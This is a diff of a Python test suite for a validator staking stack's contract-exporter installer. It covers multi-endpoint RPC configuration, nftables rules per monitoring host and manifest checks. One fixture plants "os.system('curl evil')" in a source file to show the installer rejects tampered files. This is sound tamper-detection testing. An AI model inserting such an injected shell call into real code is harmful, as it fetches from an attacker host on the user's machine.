@@ -74,8 +74,10 @@ def test_rendered_config_passes_the_exporters_own_loader(profile: str, tmp_path:
     assert cfg.pool_contracts is not None
     assert loaded.contracts.deposit_pool == cfg.pool_contracts.deposit_pool
     assert all(getattr(loaded.contracts, k).startswith(prefix) for k in ("deposit_pool", "stqrl", "validator_manager"))
-    primary = cfg.validator_pairs[0].primary.private_ip
-    assert loaded.rpc_url == f"http://{primary}:{ports.EXECUTION_RPC}"
+    pair = cfg.validator_pairs[0]
+    assert pair.active == "primary"
+    assert loaded.rpc_url is None
+    assert loaded.endpoints == [f"http://{h.private_ip}:{ports.EXECUTION_RPC}" for h in (pair.primary, pair.backup)]
     assert (loaded.listen_address, loaded.listen_port) == ("127.0.0.1", ports.CONTRACT_EXPORTER)
     assert str(loaded.state_dir) == ed.STATE_DIR == f"/var/lib/{ed.STATE_DIRECTORY}"
     assert loaded.interval_seconds == 30
@@ -86,6 +88,37 @@ def test_rpc_url_override_wins() -> None:
     cfg = cfg.model_copy(update={"monitoring": cfg.monitoring.model_copy(
         update={"contract_exporter_rpc_url": "https://rpc.example:8443/qrl"})})
     assert ed.exporter_config(cfg)["rpc_url"] == "https://rpc.example:8443/qrl"
+
+
+def test_rpc_urls_cover_every_key_host_active_first() -> None:
+    cfg = stack("gqrl")
+    p1 = cfg.validator_pairs[0]
+    p2 = p1.model_copy(update={
+        "name": "p2", "active": "backup",
+        "primary": p1.primary.model_copy(update={"private_ip": "10.42.1.31"}),
+        "backup": p1.backup.model_copy(update={"private_ip": "10.42.1.32"}),
+    })
+    cfg = cfg.model_copy(update={"validator_pairs": [p1, p2]})
+    rpc = ports.EXECUTION_RPC
+    assert ed.exporter_config(cfg)["rpc_urls"] == [
+        f"http://{p1.primary.private_ip}:{rpc}", f"http://{p1.backup.private_ip}:{rpc}",
+        f"http://10.42.1.32:{rpc}", f"http://10.42.1.31:{rpc}",  # p2 signs on its backup: that one first
+    ]
+
+
+def test_every_rpc_endpoint_accepts_the_monitoring_host() -> None:
+    """Each key host's rendered nftables accepts the endpoint's port from the monitoring IP (and no other IP)."""
+    run_ = plan_stack("testnet").run
+    files = host_files(run_)
+    cfg = load_stack("testnet").config
+    mon = cfg.monitoring.private_ip
+    by_ip = {spec.private_ip: name for name, spec in ((h.name, h) for h in cfg.hosts())}
+    for url in ed.rpc_urls(cfg):
+        ip, port = url.removeprefix("http://").split(":")
+        nft = files[by_ip[ip]]["files/etc/nftables.conf"].decode()
+        accepts = [line.strip() for line in nft.splitlines() if re.search(rf"\b{port}\b", line) and "accept" in line]
+        assert accepts, f"{by_ip[ip]}: nothing accepts port {port}"
+        assert all(line.startswith(f"ip saddr {mon} ") for line in accepts), accepts
 
 
 def test_address_with_a_wrong_checksum_fails_at_render_not_on_the_host() -> None:
@@ -239,18 +272,15 @@ def _stub(bindir: Path, name: str, body: str) -> None:
 class Host:
     """A scratch root with the bundle unpacked, the installer re-rooted into it, and stubs on PATH."""
 
-    def __init__(self, tmp: Path, cfg: StackConfig, lab: bool) -> None:
+    def __init__(self, tmp: Path, cfg: StackConfig) -> None:
         self.root = tmp / "root"
         self.log = tmp / "stub.log"
         self.log.write_text("")
         with tarfile.open(fileobj=io.BytesIO(base64.b64decode(ed.bundle_b64(cfg)))) as tar:
             tar.extractall(self.root, filter="data")
         self.home = self.root / ed.EXPORTER_HOME.lstrip("/")
-        marker = self.root / ed.LAB_NO_EXPORTER_MARKER.lstrip("/")
-        if lab:
-            marker.write_text("lab\n")
         script = ed.install_script()
-        for path in (ed.EXPORTER_HOME, ed.CONFIG_PATH, ed.LAB_NO_EXPORTER_MARKER):
+        for path in (ed.EXPORTER_HOME, ed.CONFIG_PATH):
             script = script.replace(path, str(self.root / path.lstrip("/")))
         self.script = tmp / "qp-install-exporter"
         self.script.write_text(script)
@@ -282,27 +312,24 @@ def need_root() -> None:
         pytest.skip("the installer refuses to run as non-root")
 
 
-def test_installer_in_the_lab_installs_files_only(tmp_path: Path, need_root: None) -> None:
-    host = Host(tmp_path, stack("gqrl"), lab=True)
+def test_installer_removes_files_an_older_release_left(tmp_path: Path, need_root: None) -> None:
+    host = Host(tmp_path, stack("gqrl"))
     stale = host.home / "src/exporter/retired.py"
     stale.write_text("# from an older release\n")
     res = host.run()
     assert res.returncode == 0, res.stderr
-    assert "files installed, venv and qp-contract-exporter.service skipped" in res.stdout
     assert not stale.exists() and (host.home / "src/exporter/collector.py").exists()
-    assert host.calls() == []  # no user, no venv, no pip, no systemctl
-    assert not (host.home / "venv").exists()
 
 
 def test_installer_refuses_files_that_do_not_match_the_manifest(tmp_path: Path, need_root: None) -> None:
-    host = Host(tmp_path, stack("gqrl"), lab=True)
+    host = Host(tmp_path, stack("gqrl"))
     (host.home / "src/exporter/rpc.py").write_text("import os; os.system('curl evil')\n")
     res = host.run()
     assert res.returncode != 0 and "do not match" in res.stderr
 
 
 def test_installer_builds_the_venv_from_the_lock_once_and_starts_the_unit(tmp_path: Path, need_root: None) -> None:
-    host = Host(tmp_path, stack("gqrl"), lab=False)
+    host = Host(tmp_path, stack("gqrl"))
     res = host.run()
     assert res.returncode == 0, res.stdout + res.stderr
     calls = host.calls()
